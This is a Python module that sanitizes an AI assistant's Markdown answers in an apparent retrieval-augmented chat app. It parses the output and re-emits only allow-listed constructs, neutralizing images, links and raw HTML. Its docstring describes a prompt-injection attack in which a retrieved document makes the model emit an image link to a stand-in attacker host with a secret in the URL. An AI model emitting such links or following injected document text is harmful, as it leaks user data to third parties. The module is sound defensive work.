"""Output safety: answers are rendered as Markdown, and retrieved documents are untrusted.

A document can make the model emit `![](https://attacker/?q=secret)`: the browser would
fetch that URL as soon as the image renders. Regexes miss forms that Markdown parsers
accept (nested brackets, line breaks, reference definitions, protocol-relative URLs), so
`sanitize_markdown` parses the text with a CommonMark parser (markdown-it-py) and writes
it out again from the parsed tree with an allow-list:

- kept: paragraphs, headings, lists, block quotes, tables, emphasis, strikethrough, code
  (re-fenced so nothing can break out of it), line breaks and citations like `[1]`;
- changed: an image becomes "[image removed: alt]", a link becomes its text, an autolink
  or a bare URL becomes inert code, raw HTML is shown as text (a block as code);
- every other character of text is escaped (`chains.markdown_escape`), so the output holds
  no construct that Chainlit's renderer could turn into an image, a link or HTML.

It is applied to the whole text streamed so far, so a construct that is still being
written is text (and escaped) until it is complete, and removed by then. `StreamSanitizer`
does the same for a growing text without re-parsing the blocks that are already settled.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from functools import cache

from markdown_it import MarkdownIt
from markdown_it.tree import SyntaxTreeNode

from chains.markdown_escape import code_block, code_span, escape_text

MAX_QUESTION_CHARS = 4000
_EMPHASIS = {"em": "*", "strong": "**", "s": "~~"}
_NEWLINES = re.compile(r"\r\n?")
_ALIGN = {"text-align:left": ":---", "text-align:right": "---:", "text-align:center": ":---:"}


@cache
def _parser() -> MarkdownIt:
    """CommonMark plus GFM tables and strikethrough; raw HTML is parsed (to be escaped)."""
    return MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def sanitize_markdown(text: str) -> str:
    """The Markdown `text` with only allow-listed constructs left active (see above)."""
    return _blocks(SyntaxTreeNode(_parser().parse(text)).children, tight=False)


class StreamSanitizer:
    r"""`sanitize_markdown` for a text that only grows (a streamed answer), in time that
    does not grow with it.

    A top-level block followed by another one is settled: later text cannot change it
    (reference definitions aside, which only decide whether a removed link or image shows
    as its text or as escaped brackets). So each call parses only from the start of the
    last top-level block, and reuses the output of the blocks before it. Whatever the
    split, each piece is sanitized on its own, so the joined output is as inert.

    >>> stream = StreamSanitizer()
    >>> print(stream("Hello *there*.\n\n![x](https://host/"))
    Hello *there*.
    <BLANKLINE>
    `![x](https://host/`
    >>> print(stream("Hello *there*.\n\n![x](https://host/x) done"))
    Hello *there*.
    <BLANKLINE>
    \[image removed: x\] done
    """

    def __init__(self) -> None:
        self._settled_text = ""
        self._settled_blocks: list[str] = []

    def __call__(self, text: str) -> str:
        text = _NEWLINES.sub("\n", text)
        if not text.startswith(self._settled_text):  # not the same stream: start over
            self._settled_text, self._settled_blocks = "", []
        tail = text[len(self._settled_text) :]
        nodes = SyntaxTreeNode(_parser().parse(tail)).children
        blocks = [_block(node) for node in nodes]
        if len(nodes) > 1 and nodes[-1].map is not None:
            self._settled_text += tail[: _line_offset(tail, nodes[-1].map[0])]
            self._settled_blocks += blocks[:-1]
            blocks = blocks[-1:]
        return "\n\n".join(block for block in self._settled_blocks + blocks if block)


def _line_offset(text: str, line: int) -> int:
    """Where line number `line` (0-based) of `text` starts."""
    offset = 0
    for _ in range(line):
        offset = text.index("\n", offset) + 1
    return offset


def plain_text(text: str) -> str:
    r"""The words a reader sees in the Markdown `text`, on one line: markup dropped, an
    image's alt text kept, code as written.

    >>> plain_text("# Setup\n\n1. **Ingest.** Run `ingest`, see [docs](http://x).\n")
    'Setup Ingest. Run ingest, see docs.'
    """
    words: list[str] = []
    for token in _parser().parse(text):
        if token.type in ("fence", "code_block", "html_block"):
            words.append(token.content)
        for child in token.children or ():
            if child.type in ("text", "code_inline", "html_inline", "image"):
                words.append(child.content)  # an image's content is its alt text
            elif child.type in ("softbreak", "hardbreak"):
                words.append(" ")
        words.append(" ")
    return " ".join("".join(words).split())


def cap_question(text: str, limit: int = MAX_QUESTION_CHARS) -> tuple[str, bool]:
    """Cut an over-long message to `limit` characters; True when it was cut."""
    if len(text) <= limit:
        return text, False
    return text[:limit], True


def _blocks(nodes: Sequence[SyntaxTreeNode], *, tight: bool) -> str:
    rendered = (_block(node) for node in nodes)
    return ("\n" if tight else "\n\n").join(block for block in rendered if block)


def _block(node: SyntaxTreeNode) -> str:
    kind = node.type
    if kind == "paragraph":
        return _inline(node)
    if kind == "heading":
        return "#" * int(node.tag[1:]) + " " + _inline(node)
    if kind in ("fence", "code_block"):
        return code_block(node.content, node.info)
    if kind == "blockquote":
        return _prefixed(_blocks(node.children, tight=False), "> ", "> ")
    if kind in ("bullet_list", "ordered_list"):
        return _list(node)
    if kind == "table":
        return _table(node)
    if kind == "hr":
        return "***"
    return code_block(node.content)  # html_block, and anything not allow-listed


def _list(node: SyntaxTreeNode) -> str:
    tight = any(
        child.hidden
        for item in node.children
        for child in item.children
        if child.type == "paragraph"
    )
    start = int(str(node.attrs.get("start", 1))) if node.type == "ordered_list" else 0
    items = []
    for index, item in enumerate(node.children):
        marker = f"{start + index}." if node.type == "ordered_list" else "-"
        body = _blocks(item.children, tight=tight)
        items.append(_prefixed(body, marker + " ", " " * (len(marker) + 1)))
    return ("\n" if tight else "\n\n").join(items)


def _table(node: SyntaxTreeNode) -> str:
    rows = [row for section in node.children for row in section.children]
    if not rows:
        return ""
    header = rows[0].children
    width = len(header)
    delimiters = [_ALIGN.get(str(cell.attrs.get("style", "")), "---") for cell in header]
    lines = [_row([_inline(cell, in_table=True) for cell in header]), _row(delimiters)]
    for row in rows[1:]:
        cells = [_inline(cell, in_table=True) for cell in row.children][:width]
        lines.append(_row(cells + [""] * (width - len(cells))))
    return "\n".join(lines)


def _row(cells: list[str]) -> str:
    return "| " + " | ".join(cells) + " |"


def _prefixed(text: str, first: str, rest: str) -> str:
    """Prefix every line (blank ones too, so a quote or a list item does not end early)."""
    lines = text.split("\n")
    head = first + lines[0] if lines[0] else first.rstrip()
    return "\n".join([head] + [rest + line if line else rest.rstrip() for line in lines[1:]])


def _inline(node: SyntaxTreeNode, *, in_table: bool = False) -> str:
    """The inline content of a block (paragraph, heading, cell), re-emitted.

    Text is collected across links and removed images, then escaped as one piece, so the
    escaping sees each character's real neighbours; only our own markup sits between
    pieces.
    """
    out: list[str] = []
    pending: list[str] = []

    def emit(piece: str) -> None:
        # Two code spans side by side would merge their fences into one longer run.
        if out and out[-1].endswith("`") and piece.startswith("`"):
            out.append(" ")
        out.append(piece)

    def flush() -> None:
        if pending:
            line_start = not out or out[-1].endswith("\n")
            emit(escape_text("".join(pending), keep_citations=True, line_start=line_start))
            pending.clear()

    def walk(nodes: Sequence[SyntaxTreeNode]) -> None:
        for child in nodes:
            kind = child.type
            if kind in ("softbreak", "hardbreak"):
                flush()
                out.append(" " if in_table else ("\n" if kind == "softbreak" else "\\\n"))
            elif kind == "code_inline":
                flush()
                emit(code_span(child.content, table_cell=in_table))
            elif kind in _EMPHASIS:
                flush()
                out.append(_EMPHASIS[kind])
                walk(child.children)
                flush()
                out.append(_EMPHASIS[kind])
            elif kind == "link" and child.markup == "autolink":
                flush()
                emit(code_span("".join(c.content for c in child.children)))
            elif kind == "link":
                walk(child.children)
            elif kind == "image":
                alt = " ".join(child.content.split())
                pending.append(f"[image removed: {alt}]" if alt else "[image removed]")
            else:  # text, html_inline and anything else: shown as text
                pending.append(child.content)

    for inline in node.children:  # the one `inline` child of the block
        walk(inline.children)
    flush()
    return "".join(out)
